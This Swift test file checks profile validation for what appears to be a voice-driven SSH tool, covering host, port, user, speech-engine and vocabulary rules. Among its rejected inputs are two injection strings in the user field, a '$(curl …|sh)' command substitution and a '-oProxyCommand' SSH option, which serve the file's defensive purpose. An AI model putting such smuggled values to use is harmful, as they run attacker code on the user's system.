import Testing

@testable import VoiceshCore

/// Each case breaks one rule and expects exactly that key to be reported.
struct ProfileValidationTests {
    static func profile(_ edits: [(String, ConfigValue?)]) throws -> Profile {
        var p = Profile(name: "prod", host: "prod.example.com")
        for (key, value) in edits { try p.set(key, to: value) }
        return p
    }

    @Test func defaultsAreValid() throws {
        #expect(try Self.profile([]).validate().isEmpty)
    }

    @Test(
        arguments: [
            ([("name", ConfigValue.string("bad name"))], "name"),
            ([("name", .string("-x"))], "name"),
            ([("name", .string(String(repeating: "a", count: 65)))], "name"),
            ([("host", .string(""))], "host"),
            ([("host", .string("root@prod"))], "host"),
            ([("port", .integer(0))], "port"),
            ([("port", .integer(70000))], "port"),
            ([("user", .string("a b"))], "user"),
            ([("user", .string("x$(curl e.com|sh)"))], "user"),
            ([("user", .string("-oProxyCommand=x"))], "user"),
            ([("keepalive", .integer(-1))], "keepalive"),
            ([("toggle_key", .string("ctrl-c"))], "toggle_key"),
            ([("toggle_key", .string("banana"))], "toggle_key"),
            ([("engine.timeout", .float(0))], "engine.timeout"),
            ([("engine.min_confidence", .float(1.5))], "engine.min_confidence"),
            ([("engine.language", .string("en us"))], "engine.language"),
            ([("engine.kind", .string("server"))], "engine.url"),
            ([("engine.kind", .string("server")), ("engine.url", .string("ftp://x"))], "engine.url"),
            ([("engine.kind", .string("server")), ("engine.url", .string("http://h/?api_key=abc"))], "engine.url"),
            ([("engine.url", .string("http://h"))], "engine.url"),
            ([("engine.kind", .string("stream"))], "engine.provider"),
            ([("engine.kind", .string("stream")), ("engine.provider", .string("generic"))], "engine.url"),
            ([("engine.recognizer", .string("command"))], "engine.command"),
            ([("engine.command", .string("whisper-cli {wav}"))], "engine.command"),
            (
                [
                    ("engine.kind", .string("server")), ("engine.url", .string("https://h")),
                    ("engine.api_key_env", .string("sk-proj-abc123def456ghi789")),
                ], "engine.api_key_env"
            ),
            (
                [
                    ("engine.kind", .string("server")), ("engine.url", .string("https://h")),
                    ("engine.api_key_env", .string("MY KEY")),
                ], "engine.api_key_env"
            ),
            (
                [
                    ("engine.kind", .string("server")), ("engine.url", .string("http://h")),
                    ("engine.file_field", .string("audio")),
                ], "engine.file_field"
            ),
            (
                [
                    ("engine.kind", .string("stream")), ("engine.provider", .string("deepgram")),
                    ("engine.api_key_env", .string("DG_KEY")), ("engine.token_url", .string("https://t")),
                ], "engine.token_url"
            ),
            ([("engine.backpressure", .string("drop-oldest"))], "engine.backpressure"),
            (
                [
                    ("engine.kind", .string("stream")), ("engine.provider", .string("generic")),
                    ("engine.url", .string("ws://h/s")), ("engine.backlog", .integer(5)),
                ], "engine.backlog"
            ),
            ([("fallback.kind", .string("server"))], "fallback.url"),
            ([("engine.vocabulary", .strings([""]))], "engine.vocabulary"),
        ] as [([(String, ConfigValue?)], String)])
    func reportsTheBrokenKey(edits: [(String, ConfigValue?)], key: String) throws {
        let problems = try Self.profile(edits).validate()
        #expect(problems.map(\.key) == [key], "\(problems)")
    }

    @Test func acceptsEachEngineKindWhenComplete() throws {
        let server = try Self.profile([
            ("engine.kind", .string("server")), ("engine.dialect", .string("asr-webservice")),
            ("engine.url", .string("http://127.0.0.1:9000")), ("engine.api_key_env", .string("ASR_KEY")),
        ])
        let stream = try Self.profile([
            ("engine.kind", .string("stream")), ("engine.provider", .string("assemblyai")),
            ("engine.token_url", .string("https://proxy.example.com/token")),
            ("engine.backpressure", .string("drop-oldest")), ("engine.backlog", .integer(500)),
        ])
        let command = try Self.profile([
            ("engine.recognizer", .string("command")), ("engine.command", .string("whisper-cli -f {wav} -nt")),
        ])
        #expect(server.validate().isEmpty)
        #expect(stream.validate().isEmpty)
        #expect(command.validate().isEmpty)
    }

    /// AssemblyAI's keyterms_prompt takes at most 100 terms of at most 50 characters: the line
    /// names the key, the service and what to do.
    @Test func assemblyAIKeytermLimitsAreNamedForIt() throws {
        let stream: [(String, ConfigValue?)] = [
            ("engine.kind", .string("stream")), ("engine.provider", .string("assemblyai")),
        ]
        let many = try Self.profile(stream + [("engine.vocabulary", .strings((1...101).map { "term\($0)" }))])
        #expect(
            many.validate().map(\.description) == [
                "engine.vocabulary: has 101 terms; AssemblyAI takes at most 100 keyterms: keep the 100 that matter most"
            ])
        let hundred = try Self.profile(stream + [("engine.vocabulary", .strings((1...100).map { "term\($0)" }))])
        #expect(hundred.validate().isEmpty)
        let long = String(repeating: "k", count: 51)
        let tooLong = try Self.profile(stream + [("engine.vocabulary", .strings(["kubectl", long]))])
        let problems = tooLong.validate()
        #expect(problems.map(\.key) == ["engine.vocabulary"])
        #expect(problems.first?.message.contains("has 51 characters; AssemblyAI takes keyterms of at most 50") == true)
        let fifty = try Self.profile(stream + [("engine.vocabulary", .strings([String(long.dropLast())]))])
        #expect(fifty.validate().isEmpty)
    }

    /// A huge value is echoed as its first 40 characters and "…", whatever the rule it breaks.
    @Test func aHugeValueIsNotEchoedWhole() throws {
        let huge = "kube" + String(repeating: "x", count: 10 * 1024 * 1024)
        let head = "\"" + String(huge.prefix(40)) + "…\""
        let stream: [(String, ConfigValue?)] = [
            ("engine.kind", .string("stream")), ("engine.provider", .string("assemblyai")),
        ]
        let cases: [[(String, ConfigValue?)]] = [
            [("engine.vocabulary", .strings(["kubectl", huge]))],
            stream + [("engine.vocabulary", .strings([huge]))],
            [("engine.language", .string(huge))],
            [("user", .string(huge + " x"))],
            [("engine.kind", .string("server")), ("engine.url", .string("ftp://" + huge))],
        ]
        for edits in cases {
            let messages = try Self.profile(edits).validate().map(\.description)
            #expect(messages.count == 1 && messages[0].count < 200, "\(messages.map { $0.prefix(200) })")
            #expect(messages.first?.contains(head) == true || messages.first?.contains("\"ftp://kube") == true)
        }
        #expect(ProfileProblem.notAChoice(key: "send", value: huge, allowed: ["confirm"]).message.count < 100)
        #expect(UntrustedText.excerpt("short") == "short")
        #expect(UntrustedText.excerpt(String(repeating: "y", count: 41)) == String(repeating: "y", count: 40) + "…")
        #expect(UntrustedText.excerpt("\u{1B}]0;title\u{7}ok") == "ok")
    }

    /// Over wss:// the host goes out as SNI, where TLS allows names only.
    @Test(arguments: [
        ("wss://10.0.0.5/v1/stream", true), ("wss://10.0.0.5:8443/v1/stream", true), ("wss://[::1]:8443/s", true),
        ("wss://stt.example.com/v1/stream", false), ("ws://10.0.0.5/v1/stream", false),
        ("wss://1.2.3.example.com/s", false),
    ])
    func aSecureStreamURLNeedsAHostName(url: String, refused: Bool) throws {
        let p = try Self.profile([
            ("engine.kind", .string("stream")), ("engine.provider", .string("generic")), ("engine.url", .string(url)),
        ])
        let problems = p.validate()
        #expect(problems.isEmpty != refused, "\(problems)")
        if refused {
            #expect(
                problems.map(\.description) == [
                    "engine.url: \"\(url)\" names an IP address; over wss:// use the host name the server's certificate is for"
                ])
        }
    }

    @Test func keyPastedIntoApiKeyEnvIsNamedAsAKey() throws {
        let p = try Self.profile([
            ("engine.kind", .string("server")), ("engine.url", .string("http://h")),
            ("engine.api_key_env", .string("sk-proj-abc123def456ghi789")),
        ])
        #expect(p.validate().first?.message.contains("looks like a key") == true)
    }
}
